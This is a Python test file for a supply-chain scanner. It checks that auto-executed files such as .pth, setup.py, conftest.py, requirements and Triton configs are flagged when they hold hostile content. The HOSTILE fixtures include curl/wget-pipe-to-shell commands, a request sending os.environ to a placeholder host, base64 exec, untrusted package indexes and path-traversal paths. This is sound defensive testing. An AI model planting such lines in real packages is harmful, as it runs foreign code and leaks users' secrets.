"""Texts that are acted on because of their name: `.pth`, `sitecustomize`, `setup.py`, requirements, Triton."""

from __future__ import annotations

import pytest

from mithridate.core.findings import Severity
from mithridate.supply.scan.blob import MemoryBlob
from mithridate.supply.scan.budget import Budget
from mithridate.supply.scan.formats import text_file

SHIM = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
    "enabled and __import__('_distutils_hack').add_shim(); "
)
ENVIRONMENT = 'backend: "python"\nparameters: {{ key: "EXECUTION_ENV_PATH" value: {{ string_value: "{}" }} }}'
HOSTILE = (
    ("a.pth", "/usr/lib\nimport os; os.system('x')", Severity.HIGH),
    ("a.pth", "import\tos;exec('x')", Severity.HIGH),
    ("a.pth", "import evil; evil.run()", Severity.MEDIUM),
    ("a.pth", SHIM + "os.system('x')", Severity.HIGH),
    ("lib.zip!site-packages/a.pth", "import evil; evil.run()", Severity.MEDIUM),
    ("sitecustomize.py", "import subprocess\nsubprocess.Popen(['x'])", Severity.HIGH),
    ("usercustomize.py", "import evil", Severity.MEDIUM),
    ("setup.py", "import os\nos.system('curl http://x | sh')", Severity.HIGH),
    ("setup.py", "__import__('os').popen('x')", Severity.HIGH),
    ("setup.py", "import requests, os\nrequests.post('http://x', json=dict(os.environ))", Severity.HIGH),
    ("conftest.py", "import os\nos.system('wget -qO- http://x | bash')", Severity.HIGH),
    ("conftest.py", "import base64\nexec(base64.b64decode('cGFzcw=='))", Severity.HIGH),
    ("requirements.txt", "torch\n--index-url http://x.example/simple", Severity.MEDIUM),
    ("requirements-dev.txt", "torch\n--trusted-host x.example", Severity.MEDIUM),
    ("requirements.txt", "evil @ http://x.example/evil.tar.gz", Severity.MEDIUM),
    ("requirements.txt", "-e git+http://x.example/evil.git#egg=evil", Severity.MEDIUM),
    ("config.pbtxt", 'name: "m"\nbackend: "../../tmp/evil"', Severity.HIGH),
    ("config.pbtxt", 'backend: "python"\ndefault_model_filename: "/tmp/evil.py"', Severity.HIGH),
    ("config.pbtxt", 'platform: "x"\nmodel_operations { op_library_filename: ["a.so", "../b.so"] }', Severity.HIGH),
    ("config.pbtxt", ENVIRONMENT.format("http://x.example/env.tar.gz"), Severity.HIGH),
    ("config.pbtxt", ENVIRONMENT.format("/opt/env.tar.gz"), Severity.MEDIUM),
)
ORDINARY = (
    ("a.pth", "./foo-1.0.egg\n/home/u/src\n# import nothing"),
    ("a.pth", SHIM),
    ("a.pth", "import __editable___p_0_1_finder; __editable___p_0_1_finder.install()"),
    (
        "setup.py",
        "import subprocess\nfrom setuptools import setup\nsubprocess.check_output(['git', 'describe'])\nsetup()",
    ),
    ("setup.py", "import os, sys\nfrom setuptools import setup\nabout = {}\nexec(open('v.py').read(), about)\nsetup()"),
    ("conftest.py", "import os\nimport pytest\nos.environ.setdefault('A', '')"),
    ("requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n# see http://x.example"),
    ("notes.txt", "--index-url http://x.example/simple"),
    ("config.pbtxt", 'name: "m"\nbackend: "onnxruntime"\ninput [ { name: "x" dims: [3] } ]'),
    ("config.pbtxt", ENVIRONMENT.format("$$TRITON_MODEL_DIRECTORY/env.tar.gz")),
    ("config.pbtxt", 'backend: "tensorrtllm"\nparameters: { key: "p" value: { string_value: "/models/e" } }'),
)


def worst(name: str, text: str) -> int:
    found = text_file.analyse(MemoryBlob(name, text.encode()), Budget())
    return max((issue.severity for issue in found), default=0)


@pytest.mark.parametrize(("name", "text", "least"), HOSTILE)
def test_what_starts_foreign_code_by_itself_is_told(name: str, text: str, least: Severity) -> None:
    assert worst(name, text) >= least


@pytest.mark.parametrize(("name", "text"), ORDINARY)
def test_what_packaging_tools_write_is_ordinary(name: str, text: str) -> None:
    assert worst(name, text) <= Severity.LOW
